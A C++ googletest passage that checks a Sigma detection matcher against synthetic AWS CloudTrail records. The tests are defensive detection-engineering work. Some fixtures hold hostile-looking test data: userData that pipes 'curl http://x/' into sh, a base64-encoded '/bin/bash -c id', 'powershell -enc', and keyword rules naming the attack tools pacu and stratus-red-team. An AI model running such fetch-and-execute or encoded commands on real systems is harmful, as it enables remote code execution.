// Tests of Sigma detection semantics (loader.cc + matcher.cc), run through the
// real pipeline: ParseRules -> Matcher::Compile -> CloudTrailReader -> Match.
#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

#include "core/diagnostics.h"
#include "detect/sigma/matcher.h"
#include "detect/sigma/rule.h"
#include "ingest/cloudtrail_reader.h"
#include "detect/sigma/test_pipeline.h"

namespace cirt::detect::sigma {
namespace {

using test_pipeline::TitleSink;
using test_pipeline::Titles;
const Titles kNone;


struct PipelineRun {
  std::vector<LoadOutcome> outcomes;  // from ParseRules
  std::vector<LoadOutcome> errors;    // from Matcher::Compile
  Titles titles;
  uint64_t records = 0;
};

PipelineRun RunRules(std::string_view rule_yaml, std::string_view records, const LoadOptions& options) {
  PipelineRun run;
  std::vector<Rule> rules;
  run.outcomes = ParseRules(rule_yaml, "test.yml", options, &rules);
  model::FieldPlan plan;
  ingest::ModelSlots slots = ingest::ModelSlots::Register(&plan);
  auto matcher = Matcher::Compile(std::move(rules), &plan, &run.errors);
  Diagnostics diagnostics(nullptr);
  TitleSink sink(*matcher);
  ingest::CloudTrailReader reader(plan, slots, &diagnostics);
  run.records = reader.ReadBytes("record.json", records, &sink).records;
  run.titles = std::move(sink.titles);
  return run;
}

// Titles of the rules in `rule_yaml` that match the one record `record_json`.
// A rule that does not load or compile fails the calling test.
Titles Matches(std::string_view rule_yaml, std::string_view record_json,
               const LoadOptions& options = {}) {
  PipelineRun run = RunRules(rule_yaml, record_json, options);
  for (const auto& o : run.outcomes) {
    if (o.kind != LoadOutcome::Kind::kLoaded) ADD_FAILURE() << "rule not loaded: " << o.message;
  }
  for (const auto& e : run.errors) ADD_FAILURE() << "rule not compiled: " << e.message;
  EXPECT_EQ(run.records, 1u) << "record not read: " << record_json;
  return run.titles;
}

// A CloudTrail rule titled `title` with `detection` (indented by two spaces).
std::string RuleYaml(std::string_view title, std::string_view detection) {
  return std::string("title: ") + std::string(title) +
         "\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n" +
         std::string(detection) + "\n";
}

// A rule "T" whose search `sel` is `selection` (indented by four spaces).
std::string Sel(std::string_view selection) {
  return RuleYaml("T", "  sel:\n" + std::string(selection) + "\n  condition: sel");
}

// A minimal record with the given JSON members.
std::string Rec(std::string_view members) {
  return std::string(R"({"eventVersion":"1.08","userIdentity":{"type":"IAMUser"},)") +
         std::string(members) + "}";
}

const Titles kT = {"T"};

// --- reading gates: fields only eventName-bound rules read are skipped in
// records those rules cannot match, never in records they can ---

TEST(SigmaReadingGates, GatedFieldsAreReadWhereARuleCanMatch) {
  const std::string rules =
      RuleYaml("Policy", "  sel:\n    eventName: PutBucketPolicy\n"
                         "    requestParameters.policy|contains: Allow\n  condition: sel") +
      "---\n" +
      RuleYaml("Layers", "  sel:\n    eventName|startswith: UpdateFunctionConfiguration\n"
                         "    requestParameters.layers|contains: '*'\n  condition: sel");
  const std::string policy = R"("requestParameters":{"policy":"Allow *"})";
  const std::string records =
      "[" + Rec(R"("eventName":"GetObject",)" + policy) + "," +       // no rule can match
      Rec(R"("eventName":"PutBucketPolicy",)" + policy) + "," +       // Policy
      Rec(policy + R"(,"eventName":"PutBucketPolicy")") + "," +       // fields before the name
      Rec(R"("eventName":"putbucketpolicy",)" + policy) + "," +       // names match in any case
      Rec(R"("eventName":"UpdateFunctionConfiguration20150331v2","requestParameters":)"
          R"({"layers":["arn:aws:lambda:us-east-1:111122223333:layer:x:1"]})") + "," +
      Rec(R"("eventName":"GetObject","requestParameters":{"layers":["x"]})") + "]";
  PipelineRun run = RunRules(rules, records, {});
  EXPECT_TRUE(run.errors.empty());
  EXPECT_EQ(run.records, 6u);
  EXPECT_EQ(run.titles, (Titles{"Policy", "Policy", "Policy", "Layers"}));
}

TEST(SigmaReadingGates, ARuleOnAnyEventNameReadsItsFieldsEverywhere) {
  // The second rule reads requestParameters.policy in every record, so the
  // first rule's gate on the same subtree must not hide it.
  const std::string rules =
      RuleYaml("Policy", "  sel:\n    eventName: PutBucketPolicy\n"
                         "    requestParameters.policy|contains: Allow\n  condition: sel") +
      "---\n" +
      RuleYaml("Any", "  sel:\n    requestParameters.policy|contains: Deny\n  condition: sel");
  const std::string records =
      "[" + Rec(R"("eventName":"GetObject","requestParameters":{"policy":"Deny"})") + "," +
      Rec(R"("eventName":"PutBucketPolicy","requestParameters":{"policy":"Allow Deny"})") + "]";
  PipelineRun run = RunRules(rules, records, {});
  EXPECT_EQ(run.titles, (Titles{"Any", "Policy", "Any"}));
}

// --- the per-slot memo: a repeated value matches as its first sighting did ---

TEST(SigmaMemo, RepeatedValuesMatchTheSameAcrossRecords) {
  const std::string rules =
      RuleYaml("Contains", "  sel:\n    userAgent|contains: evil\n  condition: sel") + "---\n" +
      RuleYaml("Regex", "  sel:\n    userAgent|re: '^[a-z]+ boto.*x$'\n  condition: sel") +
      "---\n" +
      RuleYaml("Names", "  sel:\n    requestParameters.names|endswith: -prod\n  condition: sel");
  const std::string evil = R"("userAgent":"evil boto x")";
  const std::string records =
      "[" + Rec(evil) + "," + Rec(evil) + "," + Rec(R"("userAgent":"clean boto y")") + "," +
      Rec(evil + R"(,"requestParameters":{"names":["db-prod","db-dev"]})") + "," +
      Rec(R"("requestParameters":{"names":["db-dev","db-prod"]})") + "," +
      Rec(R"("requestParameters":{"names":["db-dev"]})") + "]";
  PipelineRun run = RunRules(rules, records, {});
  EXPECT_TRUE(run.errors.empty());
  EXPECT_EQ(run.records, 6u);
  EXPECT_EQ(run.titles, (Titles{"Contains", "Regex", "Contains", "Regex", "Contains", "Regex",
                                "Names", "Names"}));
}

// --- structure: maps, lists, values ---

TEST(SigmaSearch, MapIsAnd) {
  const std::string rule = Sel("    eventSource: iam.amazonaws.com\n    eventName: CreateUser");
  EXPECT_EQ(Matches(rule, Rec(R"("eventSource":"iam.amazonaws.com","eventName":"CreateUser")")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventSource":"iam.amazonaws.com","eventName":"DeleteUser")")),
            kNone);
}

TEST(SigmaSearch, ListOfMapsIsOr) {
  const std::string rule = Sel(
      "    - eventSource: iam.amazonaws.com\n      eventName: CreateUser\n"
      "    - eventName: StopLogging");
  EXPECT_EQ(Matches(rule, Rec(R"("eventSource":"iam.amazonaws.com","eventName":"CreateUser")")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventSource":"cloudtrail.amazonaws.com",)"
                              R"("eventName":"StopLogging")")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventSource":"s3.amazonaws.com","eventName":"CreateUser")")),
            kNone);
}

TEST(SigmaSearch, ValueListIsOr) {
  const std::string rule = Sel("    eventName:\n      - StopLogging\n      - DeleteTrail");
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"DeleteTrail")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"StopLogging")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"StartLogging")")), kNone);
}

TEST(SigmaModifiers, ContainsAllRequiresEveryValue) {
  const std::string rule = Sel("    userAgent|contains|all:\n      - aws-cli\n      - Python");
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"aws-cli/2.13 Python/3.11 Linux")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"aws-cli/2.13 Go/1.21")")), kNone);
}

TEST(SigmaModifiers, AllOnExactValuesRequiresEveryValue) {
  // Several values of an array field: `all` holds only when each is present.
  const std::string rule = Sel("    resources.type|all:\n      - AWS::S3::Bucket\n"
                               "      - AWS::S3::Object");
  EXPECT_EQ(Matches(rule, Rec(R"("resources":[{"type":"AWS::S3::Object"},)"
                              R"({"type":"AWS::S3::Bucket"}])")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("resources":[{"type":"AWS::S3::Bucket"}])")), kNone);
}

TEST(SigmaValues, NullMatchesAbsentAndJsonNull) {
  const std::string rule = Sel("    eventName: CreateUser\n    errorCode: null");
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"CreateUser")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"CreateUser","errorCode":null)")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"CreateUser","errorCode":"AccessDenied")")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"CreateUser","errorCode":"")")), kNone);
}

TEST(SigmaValues, EmptyStringIsNotAbsent) {
  const std::string rule = Sel("    eventName: CreateUser\n    errorCode: ''");
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"CreateUser","errorCode":"")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"CreateUser")")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"CreateUser","errorCode":null)")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"CreateUser","errorCode":"x")")), kNone);
}

TEST(SigmaValues, NumberFieldsMatchNumericValues) {
  const std::string rule = Sel("    eventName: ListBuckets\n    readOnly: false\n"
                               "    requestParameters.maxResults: 50");
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"ListBuckets","readOnly":false,)"
                              R"("requestParameters":{"maxResults":50})")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"ListBuckets","readOnly":true,)"
                              R"("requestParameters":{"maxResults":50})")),
            kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"ListBuckets","readOnly":false,)"
                              R"("requestParameters":{"maxResults":51})")),
            kNone);
  // A quoted rule value and a string record value compare as text.
  const std::string quoted = Sel("    readOnly: 'false'\n    errorCode: '404'");
  EXPECT_EQ(Matches(quoted, Rec(R"("readOnly":false,"errorCode":"404")")), kT);
  EXPECT_EQ(Matches(quoted, Rec(R"("readOnly":false,"errorCode":"4040")")), kNone);
}

TEST(SigmaValues, NumberFieldsCompareAsNumbers) {
  const std::string rule = Sel("    responseElements.n: 3600");
  EXPECT_EQ(Matches(rule, Rec(R"("responseElements":{"n":3600})")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("responseElements":{"n":3600.0})")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("responseElements":{"n":3.6e3})")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("responseElements":{"n":3601})")), kNone);
  EXPECT_EQ(Matches(Sel("    responseElements.n: 1.5"), Rec(R"("responseElements":{"n":1.50})")),
            kT);
  // A string keeps its text: "3600.0" is not '3600'.
  EXPECT_EQ(Matches(rule, Rec(R"("responseElements":{"n":"3600.0"})")), kNone);
}

TEST(SigmaValues, NullAndEmptyStringInOneList) {
  const std::string rule = Sel("    eventName: X\n    errorCode:\n      - null\n      - ''");
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"X")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"X","errorCode":"")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"X","errorCode":"x")")), kNone);
}

// --- keywords ---

TEST(SigmaKeywords, ListOfStringsMatchesAnywhereInRecord) {
  const std::string rule = RuleYaml("T", R"(  keywords:
    - 'pacu'
    - 'stratus-red-team'
  condition: keywords)");
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"ListUsers","userAgent":"Boto3/1.26 PACU/1.5")")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"tags":[{"key":"x",)"
                              R"("value":"made-by-stratus-red-team"}]})")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"ListUsers","userAgent":"aws-cli/2.13")")), kNone);
}

TEST(SigmaKeywords, CombineWithFieldSearches) {
  const std::string rule = RuleYaml("T", R"(  keywords:
    - 'evilcorp'
  sel:
    eventSource: s3.amazonaws.com
  condition: keywords and sel)");
  EXPECT_EQ(Matches(rule, Rec(R"("eventSource":"s3.amazonaws.com",)"
                              R"("requestParameters":{"bucketName":"EvilCorp-loot"}})")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventSource":"iam.amazonaws.com",)"
                              R"("requestParameters":{"bucketName":"evilcorp-loot"}})")),
            kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("eventSource":"s3.amazonaws.com",)"
                              R"("requestParameters":{"bucketName":"benign"}})")),
            kNone);
}

TEST(SigmaKeywords, MatchTextThroughJsonEscapes) {
  // The record's JSON spells these C:\\Windows, \"hi\" and \u0043.
  const std::string rule = RuleYaml("T", R"(  keywords:
    - 'C:\Windows\Temp'
    - 'say "hi"'
  condition: keywords)");
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"x C:\\Windows\\Temp\\a")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"x say \"hi\" y")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"x \u0043:\\Windows\\Temp")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"x C:\\Windows\\System32")")), kNone);
  // Non-ASCII escapes decode to UTF-8, surrogate pairs included.
  const std::string utf8 = RuleYaml("T", "  keywords:\n    - 'caf\u00e9 \U0001F600'\n  condition: keywords");
  EXPECT_EQ(Matches(utf8, Rec(R"("userAgent":"caf\u00e9 \ud83d\ude00")")), kT);
  EXPECT_EQ(Matches(utf8, Rec("\"userAgent\":\"caf\u00e9 \U0001F600\"")), kT);
}

TEST(SigmaKeywords, WorkBesideWholeAndSubfieldRequests) {
  const std::string rules =
      RuleYaml("K", "  keywords:\n    - 'needle'\n  condition: keywords") + "---\n" +
      RuleYaml("Whole", "  sel:\n    requestParameters|contains: haystack\n  condition: sel") +
      "---\n" + RuleYaml("Sub", "  sel:\n    requestParameters.a.b: haystack\n  condition: sel");
  EXPECT_EQ(Matches(rules, Rec(R"("requestParameters":{"x":"needle","a":{"b":"haystack"}})")),
            (Titles{"K", "Whole", "Sub"}));
  EXPECT_EQ(Matches(rules, Rec(R"("requestParameters":{"x":"pin","a":{"b":"haystacks"}})")),
            Titles{"Whole"});
}

// --- wildcards and case ---

TEST(SigmaWildcards, StarAndQuestionMark) {
  const std::string rule = Sel("    eventName: 'Delete*Policy?'");
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"DeleteUserPolicyX")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"DeletePolicyZ")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"DeleteUserPolicy")")), kNone);  // ? needs a char
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"xDeleteUserPolicyX")")), kNone);
}

TEST(SigmaWildcards, LoneStarMatchesAnyPresentValue) {
  const std::string rule = Sel("    errorCode: '*'");
  EXPECT_EQ(Matches(rule, Rec(R"("errorCode":"AccessDenied")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"X")")), kNone);
}

TEST(SigmaWildcards, EscapedWildcardsAreLiteral) {
  const std::string rule = Sel(R"(    requestParameters.policyDocument|contains: '"Action":"\*"')");
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"policyDocument":)"
                              R"("{\"Action\":\"*\",\"Resource\":\"*\"}"})")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"policyDocument":)"
                              R"("{\"Action\":\"s3:GetObject\"}"})")),
            kNone);
  const std::string question = Sel(R"(    userAgent: 'what\?')");
  EXPECT_EQ(Matches(question, Rec(R"("userAgent":"what?")")), kT);
  EXPECT_EQ(Matches(question, Rec(R"("userAgent":"whatX")")), kNone);
}

TEST(SigmaWildcards, EscapedBackslashBeforeWildcard) {
  // \\* : a backslash, then any text.
  const std::string rule = Sel(R"(    userAgent: 'C:\\*')");
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"C:\\Windows")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"C:/Windows")")), kNone);
}

TEST(SigmaWildcards, QuestionMarkIsOneUtf8Character) {
  const std::string rule = Sel("    userAgent: 'caf?'");
  EXPECT_EQ(Matches(rule, Rec("\"userAgent\":\"caf\u00e9\"")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"cafe")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"cafes")")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"caf")")), kNone);
}

TEST(SigmaWildcards, ContainsKeepsInnerWildcards) {
  const std::string rule = Sel("    userAgent|contains: 'a*c'");
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"xxabbbcxx")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"xxcbbbaxx")")), kNone);
}

TEST(SigmaWildcards, StarSpansNewlinesAndEndswithAnchorsAtEnd) {
  EXPECT_EQ(Matches(Sel("    userAgent: 'a*'"), Rec(R"("userAgent":"a\nb")")), kT);
  EXPECT_EQ(Matches(Sel("    userAgent|endswith: '.exe'"), Rec(R"("userAgent":"a.exe\nb")")),
            kNone);
  EXPECT_EQ(Matches(Sel("    userAgent|endswith: '.exe'"), Rec(R"("userAgent":"b\na.exe")")),
            kT);
}

TEST(SigmaValues, CaseInsensitiveByDefault) {
  const std::string rule = Sel("    eventName: stoplogging\n    userAgent|contains: CONSOLE");
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"StopLogging","userAgent":"console.amazonaws.com")")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"StartLogging","userAgent":"console")")), kNone);
}

TEST(SigmaModifiers, CasedIsCaseSensitive) {
  const std::string rule = Sel("    eventName|cased: StopLogging");
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"StopLogging")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"stoplogging")")), kNone);
  const std::string contains = Sel("    userAgent|contains|cased: Boto3");
  EXPECT_EQ(Matches(contains, Rec(R"("userAgent":"xx Boto3/1.2")")), kT);
  EXPECT_EQ(Matches(contains, Rec(R"("userAgent":"xx boto3/1.2")")), kNone);
}

TEST(SigmaModifiers, ContainsStartswithEndswith) {
  const std::string rule = RuleYaml("T", R"(  c:
    userAgent|contains: 'cli/2'
  s:
    userAgent|startswith: 'aws-'
  e:
    userAgent|endswith: 'Linux'
  condition: c and s and e)");
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"aws-cli/2.13 Python/3.11 Linux")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"x aws-cli/2.13 Python/3.11 Linux")")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"aws-cli/2.13 Python/3.11 Linux x")")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"aws-cli/1.13 Python/3.11 Linux")")), kNone);
}

// --- regular expressions ---

TEST(SigmaModifiers, RegexIsCaseSensitiveAndUnanchored) {
  const std::string rule = Sel(R"(    userIdentity.arn|re: ':assumed-role/aws:[a-z]+')");
  EXPECT_EQ(Matches(rule, R"({"eventVersion":"1.08","userIdentity":{"type":"AssumedRole",)"
                          R"("arn":"arn:aws:sts::1:assumed-role/aws:ec2/i-1"}})"),
            kT);
  EXPECT_EQ(Matches(rule, R"({"eventVersion":"1.08","userIdentity":{"type":"AssumedRole",)"
                          R"("arn":"arn:aws:sts::1:assumed-role/AWS:EC2/i-1"}})"),
            kNone);
}

TEST(SigmaModifiers, RegexIFlagIgnoresCase) {
  const std::string rule = Sel(R"(    userAgent|re|i: '^aws-cli/[0-9]')");
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"AWS-CLI/2.1")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"x aws-cli/2.1")")), kNone);
}

TEST(SigmaModifiers, RegexMFlagAnchorsAtLines) {
  const std::string with_m = Sel(R"(    requestParameters.userData|re|m: '^curl ')");
  const std::string without = Sel(R"(    requestParameters.userData|re: '^curl ')");
  const std::string record =
      Rec(R"("requestParameters":{"userData":"#!/bin/bash\ncurl http://x/ | sh"})");
  EXPECT_EQ(Matches(with_m, record), kT);
  EXPECT_EQ(Matches(without, record), kNone);
}

TEST(SigmaModifiers, RegexSFlagLetsDotMatchNewline) {
  const std::string with_s = Sel(R"(    requestParameters.userData|re|s: 'bash.curl')");
  const std::string without = Sel(R"(    requestParameters.userData|re: 'bash.curl')");
  const std::string record = Rec(R"("requestParameters":{"userData":"bash\ncurl"})");
  EXPECT_EQ(Matches(with_s, record), kT);
  EXPECT_EQ(Matches(without, record), kNone);
}

TEST(SigmaModifiers, RegexFlagsWithoutReAreErrors) {
  std::vector<Rule> rules;
  auto outcomes = ParseRules(Sel("    userAgent|i: x"), "t.yml", {}, &rules);
  ASSERT_EQ(outcomes.size(), 1u);
  EXPECT_EQ(outcomes[0].kind, LoadOutcome::Kind::kError);
}

TEST(SigmaModifiers, BadRegexFailsCompileForThatRuleOnly) {
  PipelineRun run = RunRules(RuleYaml("Bad", "  sel:\n    userAgent|re: '(unclosed'\n  condition: sel") +
                         "---\n" + Sel("    eventName: X"),
                     Rec(R"("eventName":"X","userAgent":"(unclosed")"), {});
  ASSERT_EQ(run.errors.size(), 1u);
  EXPECT_EQ(run.errors[0].kind, LoadOutcome::Kind::kError);
  EXPECT_NE(run.errors[0].message.find("Bad"), std::string::npos) << run.errors[0].message;
  EXPECT_EQ(run.titles, kT);
}

// --- cidr ---

TEST(SigmaModifiers, CidrIpv4) {
  const std::string rule = Sel("    sourceIPAddress|cidr:\n      - 10.0.0.0/8\n      - 192.168.1.0/26");
  EXPECT_EQ(Matches(rule, Rec(R"("sourceIPAddress":"10.200.3.4")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("sourceIPAddress":"192.168.1.63")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("sourceIPAddress":"192.168.1.64")")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("sourceIPAddress":"11.0.0.1")")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("sourceIPAddress":"AWS Internal")")), kNone);
}

TEST(SigmaModifiers, CidrIpv6) {
  const std::string rule = Sel("    sourceIPAddress|cidr: '2001:db8::/32'");
  EXPECT_EQ(Matches(rule, Rec(R"("sourceIPAddress":"2001:db8:1234::5")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("sourceIPAddress":"2001:db9::5")")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("sourceIPAddress":"10.0.0.1")")), kNone);
}

TEST(SigmaModifiers, BadCidrIsCompileError) {
  PipelineRun run = RunRules(Sel("    sourceIPAddress|cidr: '10.0.0.0/33'"),
                     Rec(R"("sourceIPAddress":"10.0.0.1")"), {});
  ASSERT_EQ(run.errors.size(), 1u);
  EXPECT_NE(run.errors[0].message.find("bad CIDR"), std::string::npos) << run.errors[0].message;
}

// --- exists ---

TEST(SigmaModifiers, ExistsTrue) {
  const std::string rule = Sel("    errorCode|exists: true");
  EXPECT_EQ(Matches(rule, Rec(R"("errorCode":"AccessDenied")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("errorCode":null)")), kT);  // presence, not value
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"X")")), kNone);
}

TEST(SigmaModifiers, ExistsFalse) {
  const std::string rule = Sel("    eventName: X\n    errorCode|exists: false");
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"X")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"X","errorCode":"AccessDenied")")), kNone);
}

TEST(SigmaModifiers, ExistsOnObjectField) {
  const std::string rule = Sel("    additionalEventData|exists: true");
  EXPECT_EQ(Matches(rule, Rec(R"("additionalEventData":{"MFAUsed":"No"})")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"X")")), kNone);
}

// --- numeric ---

TEST(SigmaModifiers, NumericComparisonsOnNumberFields) {
  const std::string rule = RuleYaml("T", R"(  gt:
    requestParameters.maxResults|gt: 10
  lte:
    requestParameters.maxResults|lte: 100
  condition: gt and lte)");
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"maxResults":11})")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"maxResults":100})")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"maxResults":10})")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"maxResults":100.5})")), kNone);
}

TEST(SigmaModifiers, NumericComparisonsOnNumericStrings) {
  const std::string rule = RuleYaml("T", R"(  gte:
    requestParameters.durationSeconds|gte: 3600
  lt:
    requestParameters.durationSeconds|lt: 43200
  condition: gte and lt)");
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"durationSeconds":"3600"})")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"durationSeconds":"43199.5"})")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"durationSeconds":"900"})")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"durationSeconds":"43200"})")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"durationSeconds":"long"})")), kNone);
}

TEST(SigmaModifiers, NumericComparisonsNeedPlainDecimalText) {
  const std::string gt = Sel("    responseElements.n|gt: 5");
  EXPECT_EQ(Matches(gt, Rec(R"("responseElements":{"n":"7"})")), kT);
  EXPECT_EQ(Matches(gt, Rec(R"("responseElements":{"n":"-7"})")), kNone);
  EXPECT_EQ(Matches(gt, Rec(R"("responseElements":{"n":" 7"})")), kNone);
  EXPECT_EQ(Matches(gt, Rec(R"("responseElements":{"n":"0x10"})")), kNone);
  EXPECT_EQ(Matches(gt, Rec(R"("responseElements":{"n":"inf"})")), kNone);
  EXPECT_EQ(Matches(gt, Rec(R"("responseElements":{"n":true})")), kNone);
  const std::string lt = Sel("    responseElements.n|lt: 5");
  EXPECT_EQ(Matches(lt, Rec(R"("responseElements":{"n":"-inf"})")), kNone);
  EXPECT_EQ(Matches(lt, Rec(R"("responseElements":{"n":"nan"})")), kNone);
  EXPECT_EQ(Matches(lt, Rec(R"("responseElements":{"n":"4.5"})")), kT);
}

TEST(SigmaModifiers, NumericModifierNeedsNumber) {
  std::vector<Rule> rules;
  auto outcomes = ParseRules(Sel("    requestParameters.maxResults|gt: many"), "t.yml", {}, &rules);
  ASSERT_EQ(outcomes.size(), 1u);
  EXPECT_EQ(outcomes[0].kind, LoadOutcome::Kind::kError);
  EXPECT_NE(outcomes[0].message.find("not a number"), std::string::npos) << outcomes[0].message;
}

// --- neq ---

TEST(SigmaModifiers, NeqString) {
  const std::string rule = Sel("    eventSource: iam.amazonaws.com\n    eventName|neq: ListUsers");
  EXPECT_EQ(Matches(rule, Rec(R"("eventSource":"iam.amazonaws.com","eventName":"CreateUser")")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventSource":"iam.amazonaws.com","eventName":"listusers")")),
            kNone);
}

TEST(SigmaModifiers, NeqNeedsTheFieldPresent) {
  // The engine's reading of "the field is different": an absent field is not.
  const std::string rule = Sel("    eventName: X\n    errorCode|neq: AccessDenied");
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"X","errorCode":"Throttling")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventName":"X")")), kNone);
}

TEST(SigmaModifiers, NeqNumber) {
  const std::string rule = Sel("    requestParameters.maxResults|neq: 50");
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"maxResults":20})")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"maxResults":50})")), kNone);
}

TEST(SigmaModifiers, NeqListMeansDifferentFromAll) {
  const std::string rule = Sel("    awsRegion|neq:\n      - us-east-1\n      - eu-west-1");
  EXPECT_EQ(Matches(rule, Rec(R"("awsRegion":"ap-south-1")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("awsRegion":"us-east-1")")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("awsRegion":"eu-west-1")")), kNone);
}

// --- encodings ---

TEST(SigmaModifiers, Base64EncodesValue) {
  // "whoami" -> d2hvYW1p
  const std::string rule = Sel("    requestParameters.userData|base64: whoami");
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"userData":"d2hvYW1p"})")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"userData":"whoami"})")), kNone);
}

TEST(SigmaModifiers, Base64OffsetContainsMatchesAtEveryOffset) {
  // The spec's example: a value inside a longer base64 text, at byte
  // offsets 0, 1 and 2 (mod 3) of the encoded plaintext.
  //   base64("/bin/bash -c id")    = L2Jpbi9iYXNoIC1jIGlk
  //   base64("x/bin/bash -c id")   = eC9iaW4vYmFzaCAtYyBpZA==
  //   base64("xy/bin/bash -c id")  = eHkvYmluL2Jhc2ggLWMgaWQ=
  const std::string rule = Sel("    requestParameters.userData|base64offset|contains: '/bin/bash'");
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"userData":"L2Jpbi9iYXNoIC1jIGlk"})")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"userData":"eC9iaW4vYmFzaCAtYyBpZA=="})")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"userData":"eHkvYmluL2Jhc2ggLWMgaWQ="})")),
            kT);
  // base64("/bin/sh -c id") does not contain /bin/bash.
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"userData":"L2Jpbi9zaCAtYyBpZA=="})")),
            kNone);
}

TEST(SigmaModifiers, WindashMatchesEveryDash) {
  const std::string rule = Sel("    requestParameters.commands|windash|contains: ' -enc '");
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"commands":"powershell -enc AAA"})")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"commands":"powershell /enc AAA"})")), kT);
  EXPECT_EQ(Matches(rule, Rec("\"requestParameters\":{\"commands\":\"powershell \u2013enc AAA\"}")),
            kT);
